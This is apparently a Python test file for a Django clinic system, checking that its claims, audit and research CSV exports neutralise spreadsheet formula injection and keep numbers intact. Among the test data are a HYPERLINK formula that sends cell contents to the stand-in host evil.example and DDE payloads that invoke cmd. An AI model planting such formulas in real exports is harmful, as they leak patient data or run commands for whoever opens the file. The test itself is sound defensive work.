"""No CSV the system writes carries a cell that a spreadsheet would run as a formula
(issue #25 §7); numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from acuback.audit.services import audit_record
from acuback.web.csv_cells import FORMULA_STARTS, csv_writer, safe_cell
from tests.factories import (
    clinic_today,
    make_adverse_event,
    make_episode,
    make_signed_visit,
    make_user,
    request_for,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C2&D2,"Open")'
DDE = "=2+5+cmd|' /C calc'!A0@evil.example"


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and safe_cell(cell) != cell


def test_the_claims_export_writes_a_formula_family_name_as_text(world, login):
    from acuback.billing.models import CoveragePlan, FeeSchedule, Payer

    world.patient.family_name = HYPERLINK
    world.patient.save()
    payer = Payer.objects.create(clinic=world.clinic, name="@SUM(1+1)", kind="commercial")
    CoveragePlan.objects.create(patient=world.patient, payer=payer, member_id="+1-555",
                                effective_from=date(2025, 1, 1))
    FeeSchedule.objects.create(clinic=world.clinic, code="97810", amount="80.00")
    episode = make_episode(world.patient, world.practitioner, diagnosis_codes=["M54.50"])
    # A signed visit as a signature leaves it (billing reads the codes from the record).
    make_signed_visit(world.patient, world.practitioner_record, world.location,
                      episode=episode, day=clinic_today(world.location) - timedelta(days=2))

    response = login(world.admin).get(reverse("claim_export"))
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows, "the session is billed"
    row = rows[0]
    assert row["box_2_patient_name"] == "'" + HYPERLINK + ", " + world.patient.given_name
    assert row["payer"] == "'@SUM(1+1)" and row["box_1a_insured_id"] == "'+1-555"
    assert row["box_24f_charges"] == "80.00" and row["box_24g_units"] == "1"
    assert not any(_runs_as_formula(cell) for cell in row.values())


def test_the_audit_csv_writes_a_formula_user_name_as_text(world, login, operator):
    attacker = make_user(world.clinic, "patient", DDE)
    audit_record(request=request_for(attacker), action="portal.login_magic", actor=attacker,
                 clinic=world.clinic)
    # the clinic admin's export (in the application) and the platform operator's (admin)
    for user, url in ((world.admin, reverse("clinic_audit_csv")),
                      (operator, "/admin/audit/auditevent/export.csv")):
        response = login(user).get(url)
        assert response.status_code == 200, url
        rows = _rows(response.content.decode())
        labels = [r[2] for r in rows[1:]]
        assert "'" + DDE in labels and DDE not in labels, url
        assert not any(_runs_as_formula(cell) for row in rows for cell in row), url


def test_the_research_export_writes_formula_text_as_text_and_keeps_numbers(world):
    from acuback.insights.export import build_zip
    from acuback.outcomes import services as outcomes

    episode = make_episode(world.patient, world.practitioner)
    make_adverse_event(world.patient, world.practitioner, type="=1+2", outcome="-cmd")
    outcomes.response_save(patient=world.patient, episode=episode, instrument_id="nrs",
                           time_point="baseline", answers={1: 6}, submit=True,
                           completed_by="staff", request=request_for(world.practitioner))
    archive = zipfile.ZipFile(io.BytesIO(build_zip(clinic_ids=[world.clinic.pk],
                                                   on=timezone.localdate())))
    events = _rows(archive.read("adverse_events.csv").decode())
    assert events[1][2] == "'=1+2" and events[1][7] == "'-cmd"
    outcome_rows = _rows(archive.read("outcomes.csv").decode())
    assert outcome_rows[1][4] == "6.0"  # a number, not text
    for name in archive.namelist():
        if name.endswith(".csv"):
            assert not any(_runs_as_formula(c) for r in _rows(archive.read(name).decode())
                           for c in r), name


@pytest.mark.parametrize("cell", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1",
                                  "-", "+", "=", "-cmd|' /C calc'!A0", "@"])
def test_each_formula_start_is_neutralised(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("value", [-3, -2.5, Decimal("-12.50"), 0, None, True,
                                   "-12.50", "+4", "-0.5", ".5", "-1e3", "", "M54.50", "A:B"])
def test_numbers_and_ordinary_text_are_unchanged(value):
    assert safe_cell(value) == value


@given(st.text())
def test_no_text_cell_starts_a_formula_and_nothing_is_lost(text):
    cell = safe_cell(text)
    assert cell in (text, "'" + text)
    if cell.startswith(FORMULA_STARTS):  # only a plain number may
        float(cell)


@given(st.one_of(st.integers(), st.decimals(allow_nan=False, allow_infinity=False),
                 st.floats(allow_nan=False, allow_infinity=False)))
def test_numbers_stay_numbers_through_the_writer(number):
    buffer = io.StringIO()
    csv_writer(buffer).writerow([number, str(number)])
    written = _rows(buffer.getvalue())[0]
    assert written == [str(number), str(number)]


def test_every_csv_writer_in_the_code_is_the_safe_one():
    from pathlib import Path

    import acuback

    root = Path(acuback.__file__).parent
    raw = [str(p.relative_to(root)) for p in root.rglob("*.py")
           if p.name != "csv_cells.py" and any(w in p.read_text(encoding="utf-8")
                                               for w in ("csv.writer(", "csv.DictWriter("))]
    assert raw == [], f"write CSV through acuback.web.csv_cells.csv_writer: {raw}"
